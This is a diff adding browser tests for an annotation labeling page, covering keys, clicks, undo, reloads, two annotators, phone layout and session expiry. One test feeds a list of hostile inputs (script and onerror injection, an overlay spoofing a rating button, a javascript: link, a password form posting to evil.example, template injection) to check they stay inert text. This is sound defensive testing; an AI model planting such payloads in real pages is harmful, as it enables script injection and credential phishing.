@@ -1,0 +1,213 @@
+"""The labeling page in a real browser, by keys and by clicks."""
+
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, sync_playwright
+from sqlalchemy import select
+
+from labeling_app.store.tables import Assignment, Item, Label
+from tests.labeling_app.made import a_project
+from tests.labeling_app.web.browsing import Annotator, chromium
+from tests.labeling_app.web.running import Server, account, running
+
+pytestmark = pytest.mark.slow
+
+HOSTILE = [
+    "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 1'>",
+    "<div id='rate-a3' style='position:fixed;inset:0'>over everything</div>",
+    "![a picture](http://evil.example/pixel.png) [a link](javascript:window.hacked=1)",
+    "<form action='http://evil.example'><input name='password'></form>",
+    "${window.hacked = 1} {{ window.hacked = 1 }} {% raw %}",
+    "\u202egnirts desrever\u202c and \u05e9\u05dc\u05d5\u05dd",
+    "<i>" * 10_500,
+    "> " * 3_000 + "deep",
+    "```python\nprint('code')\n```\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n**unclosed *marks `here",
+    "long " * 20_000,
+]
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as playwright, chromium(playwright) as browser:
+        yield browser
+
+
+@pytest.fixture
+def server(tmp_path: Path) -> Iterator[Server]:
+    with running(f"sqlite:///{tmp_path / 'labels.db'}") as server:
+        account(server.database, "ana")
+        account(server.database, "ben")
+        yield server
+
+
+@pytest.fixture
+def ana(browser: Browser, server: Server) -> Iterator[Annotator]:
+    """A browser of her own, in which nothing went wrong and nothing left the host."""
+    context = browser.new_context(viewport={"width": 1280, "height": 800})
+    annotator = Annotator(context.new_page())
+    yield annotator
+    assert annotator.hosts == {server.address.removeprefix("http://")}
+    assert annotator.complaints == []
+    context.close()
+
+
+def answers(server: Server) -> list[dict]:
+    """What was said of candidate 0, as the log has it."""
+    with server.database.read() as session:
+        return list(session.scalars(select(Label.answer).order_by(Label.id)))
+
+
+def test_twenty_items_by_keys_and_clicks(server, ana):
+    a_project(server.database, items=25, guidelines="# Be *kind*")
+    ana.enter(server, "ana")
+    ana.page.wait_for_selector("#agree")
+    assert "Be kind" in ana.says("guidelines")
+    ana.picture("guidelines")
+    ana.agree()
+    for key in "1234567":
+        ana.press(key)
+        assert "saved" in ana.says("saved")
+    for name in ("rate-a3", "rate-a2", "rate-a1", "rate-tie", "rate-b1", "rate-b2", "rate-b3"):
+        ana.click(name)
+    ana.press("x")
+    ana.click("both-bad")
+    ana.press("s", "2")
+    ana.click("skip", "skip-3")
+    ana.press("4")
+    ana.press("4")
+    ana.picture("comparison")
+    assert ana.says("progress").startswith("18 by you")
+    said = answers(server)
+    assert len(said) == 20
+    # Every strength was given twice, once by a key and once by a click; the order of the sides is the server's.
+    shown = [-3, -2, -1, 0, 1, 2, 3] * 2
+    with server.database.read() as session:
+        orders = session.scalars(select(Assignment.order).order_by(Assignment.id).limit(14)).all()
+    stored = [answer["strength"] * (1 if order[0] == 0 else -1) for answer, order in zip(said, orders, strict=False)]
+    assert stored == shown
+    assert [answer["kind"] for answer in said[14:]] == ["both_bad", "both_bad", "skip", "skip", "choice", "choice"]
+    assert said[16]["reason"] == "I can't judge this subject"
+
+
+def test_undo_and_correct(server, ana):
+    a_project(server.database, items=3)
+    ana.enter(server, "ana")
+    ana.drawn("")
+    first = ana.page.inner_text("#response-a")
+    ana.press("1")
+    ana.press("u")
+    assert "A much better" in ana.says("given") and ana.page.inner_text("#response-a") == first
+    ana.press("7")
+    assert "corrected" in ana.says("saved")
+    with server.database.read() as session:
+        labels = session.scalars(select(Label).order_by(Label.id)).all()
+    assert [label.revision for label in labels] == [1, 2]
+    assert labels[0].answer["strength"] == -labels[1].answer["strength"]
+
+
+def test_a_reload_in_the_middle_keeps_item_and_draft(server, ana):
+    a_project(server.database, items=3, rationale="optional")
+    ana.enter(server, "ana")
+    ana.drawn("")
+    item, response = ana.item, ana.page.inner_text("#response-a")
+    ana.page.keyboard.press("2")  # only marks: this project asks for more than the choice
+    ana.page.click("#rationale textarea")
+    ana.page.keyboard.type("because of 123 x s u")
+    time.sleep(1)
+    assert ana.item == item and answers(server) == []  # and keys are dead while one types
+    ana.page.reload()
+    ana.page.wait_for_selector("#response-a", state="visible")
+    ana.drawn("")
+    assert (ana.item, ana.page.inner_text("#response-a")) == (item, response)
+    assert ana.page.input_value("#rationale textarea") == "because of 123 x s u"
+    ana.press("2", "Enter")
+    (answer,) = answers(server)
+    assert answer["rationale"] == "because of 123 x s u" and abs(answer["strength"]) == 2
+
+
+def test_two_annotators_at_once(server, browser, ana):
+    a_project(server.database, items=6)
+    context = browser.new_context()
+    ben = Annotator(context.new_page())
+    for annotator, name in ((ana, "ana"), (ben, "ben")):
+        annotator.enter(server, name)
+        annotator.drawn("")
+    assert ana.page.inner_text("#response-a") != ben.page.inner_text("#response-a")
+    for annotator in (ana, ben, ana, ben):
+        annotator.press("4")
+    with server.database.read() as session:
+        judged = session.execute(select(Label.item_id, Label.user_id)).all()
+    assert len({item for item, _ in judged}) == 4 and len({user for _, user in judged}) == 2
+    context.close()
+
+
+def test_all_done_is_a_page_of_its_own(server, ana):
+    a_project(server.database, items=1)
+    ana.enter(server, "ana")
+    ana.drawn("")
+    ana.press("1")
+    assert "All done" in ana.says("notice")
+    assert not ana.page.is_visible("#response-a")
+    ana.picture("finished")
+
+
+def test_hostile_responses_stay_text(server, ana):
+    items = [{"prompt": text, "responses": [text, f"{text} again"]} for text in HOSTILE]
+    a_project(server.database, items=items)
+    ana.enter(server, "ana")
+    ana.drawn("")
+    for number in range(len(HOSTILE)):
+        assert ana.page.evaluate("window.hacked") is None
+        assert ana.page.locator("[id='rate-a3']").count() == 1
+        shown = ana.page.locator("#prompt, #response-a, #response-b")
+        assert shown.locator("script, img, form, input, iframe, [onerror], [style*=fixed]").count() == 0
+        if number == 1:
+            assert "<div id='rate-a3'" in ana.says("response-a") or "<div id='rate-a3'" in ana.says("response-b")
+        if number == 8:
+            assert shown.locator("pre code").count() >= 1 and shown.locator("table").count() >= 1
+        ana.press("4")
+    assert len(answers(server)) == len(HOSTILE)
+
+
+def test_on_a_phone_and_in_the_dark(server, browser):
+    a_project(server.database, items=2)
+    context = browser.new_context(viewport={"width": 390, "height": 844}, color_scheme="dark")
+    ana = Annotator(context.new_page())
+    ana.enter(server, "ana")
+    ana.drawn("")
+    a, b = ana.page.locator(".card-a").bounding_box(), ana.page.locator(".card-b").bounding_box()
+    assert a and b and b["y"] >= a["y"] + a["height"]  # one under the other
+    assert ana.page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
+    ana.picture("phone, dark")
+    ana.click("rate-b3")
+    assert len(answers(server)) == 1
+    context.close()
+
+
+def test_an_ended_session_is_said(server, browser):
+    a_project(server.database, items=2)
+    context = browser.new_context()
+    ana = Annotator(context.new_page())
+    ana.enter(server, "ana")
+    ana.drawn("")
+    context.clear_cookies()
+    ana.page.keyboard.press("1")
+    ana.page.wait_for_selector("#banner")
+    assert "session has ended" in ana.says("banner")
+    assert answers(server) == []
+    context.close()
+
+
+def test_the_store_counts_what_the_page_did(server, ana):
+    a_project(server.database, items=2)
+    ana.enter(server, "ana")
+    ana.drawn("")
+    time.sleep(1.2)
+    ana.press("1")
+    with server.database.read() as session:
+        (label,) = session.scalars(select(Label)).all()
+        assert session.get_one(Item, label.item_id).open_slots == 0
+    assert 1.0 < label.seconds < 20 and label.idle_seconds == 0
